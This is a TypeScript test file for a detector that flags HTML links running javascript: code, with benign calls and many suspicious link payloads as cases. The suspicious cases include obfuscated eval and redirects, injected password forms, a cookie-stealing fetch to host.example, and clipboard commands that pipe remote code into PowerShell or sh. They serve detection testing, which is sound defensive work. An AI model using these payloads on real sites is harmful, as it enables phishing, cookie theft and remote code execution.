/** Pages whose links run a script: what ordinary pages have, and what attacks make of it. */
import { expect, test } from 'vitest';
import { verdictOn } from './analyse.ts';

const page = (links: string) =>
  Buffer.from(
    `<!DOCTYPE html><html><head><title>T</title></head><body><p>${'Ordinary text of the page. '.repeat(12)}</p>${links}</body></html>`,
  );
const link = (code: string) => `<a href="javascript:${code}">x</a>`;
const encoded = Buffer.from('<form action="https://host.example/"><input type="password"></form>').toString('base64');
const percent = (text: string) => [...text].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join('');
const entities = (text: string) => [...text].map((sign) => `&#${sign.charCodeAt(0)};`).join('');

test.each([
  "go('a')",
  'searchBox.CloseResultsWindow()',
  "__doPostBack('ctl00$Main$Grid','Page$2')",
  "document.getElementById('form-1').submit();",
  'window.history.go(-1)',
  "void window.open('https://shop.example/size.html','size','width=400,height=300')",
  "void(toggle('part-2', this, true)); return false",
  'show(%27day%27,%202026)',
  "open('  https://shop.example/')",
  "copyText('part 2 | cmd and shell')",
  "$('#menu').toggle()",
  'void(0)',
  '',
])('nothing is said against a link that only calls: %s', async (code) => {
  expect(await verdictOn(page(link(code)), 'page.html')).toMatch(/^(?:benign|unknown)(?!.*html-unsafe-link)/);
});

test.each<[string, string]>([
  ['a redirect', link("location='https://host.example/a.exe'")],
  ['a redirect by a call', link("location.assign('https://host.example/a.exe')")],
  ['a redirect by parts', link("window['loc'+'ation']='https://host.example/'")],
  ['a page that is written', link(`document.write(unescape('%253Cform%253E'))`)],
  ['a page that is written by parts', link(`document['wri'+'te']('\\x3cform\\x3e')`)],
  ['a page that is decoded', link(`document.body.innerHTML=atob('${encoded}')`)],
  ['a page that is the value', link(`'<form action=https://host.example><input name=p></form>'`)],
  ['a form for a password', link(`f=document.createElement('input');f.type='pass'+'word';document.body.append(f)`)],
  ['code that is evaluated', link(`eval('go' + k)`)],
  ['code that is evaluated by a timer', link(`setTimeout('go',1)`)],
  ['code of the constructor', link(`go.constructor('x')()`)],
  ['a script of a host', link(`import('https://host.example/a.js')`)],
  ['a script of a host in an element', link(`document.getElementById('s').setAttribute('src','//host.example/a.js')`)],
  ['an address for a chain', link(`top.frames.item(0).show('https://host.example/a')`)],
  ['entities', `<a href="${entities("javascript:location='https://host.example/a.hta'")}">x</a>`],
  ['percent signs', link(percent("location='https://host.example/a.hta'"))],
  ['percent signs in part', link("l%6fcation%3d'https://host.example/a.hta'")],
  ['a comment in front', link("//go()%0alocation='https://host.example/'")],
  ['line breaks within a word', link("ev&#10;al('go')")],
  ['tabs within a word', link("ev&#9;al(at&Tab;ob('Z28='))")],
  ['escapes of a name', link("\\u0065val('go')")],
  ['code over several links', [link("a='ev'"), link("b=a+'al'"), link("self[b]('go')")].join('')],
  ['a document in an address', link("open('data:text/html,a')")],
  ['a program of Windows', link("open('search-ms:query=a')")],
  ['a string of a template', link('go`a`')],
  ['a program of Windows behind blanks', link("open('  search-ms:query=a')")],
  ['a program with a long name', link("open('microsoft.windows.camera.multipicker.of.this:a')")],
  ['an address behind blanks for a chain', link("top.frames.item(0).show('   https://host.example/a')")],
  ['code that a library evaluates', link("$.globalEval('location=name')")],
  ['code that an object of the language calls', link("Reflect.construct('x')")],
  ['a command for the clipboard', link("navigator.clipboard.writeText('host.example')")],
  ['a command for the clipboard of Internet Explorer', link("clipboardData.setData('Text','a')")],
  ['a command in a value', link("copy('powershell -w hidden -c iwr host.example | iex')")],
  ['a command of the shell in a value', link("copy('curl -s host.example | sh')")],
  ['a command of cmd.exe in a value', link("box.value.set('cmd /c start')")],
  ['a program that a control runs', link("shell.Run('mshta host.example')")],
  ['a handler that is registered', link("self.registerProtocolHandler('web+a','?u=%25s')")],
  ['a window of Internet Explorer', link("showModalDialog('https://host.example/a')")],
  ['a message to another page', link("top.postMessage('go')")],
  ['a command of an editor', link("document.execCommand('insertImage',false,'a')")],
  ['functions of the browser', link("window.external.AddSearchProvider('a.xml')")],
  ['an extension', link("chrome.runtime.sendMessage('a')")],
  ['a function of its own', link('(()=>{go()})()')],
  ['a link that sends', link("fetch('https://host.example/'+document.cookie)")],
  ['much code', link('go();'.repeat(200))],
  ['a blank within the scheme', '<a href="java&#9;script:go()">x</a>'],
  ['a sign in front of the scheme', '<a href="&#1;javascript:location=1">x</a>'],
])('%s stays suspicious in a link', async (_, links) => {
  expect(await verdictOn(page(links), 'page.html')).toMatch(/^(?:suspicious|malicious) .*html-unsafe-link/);
});
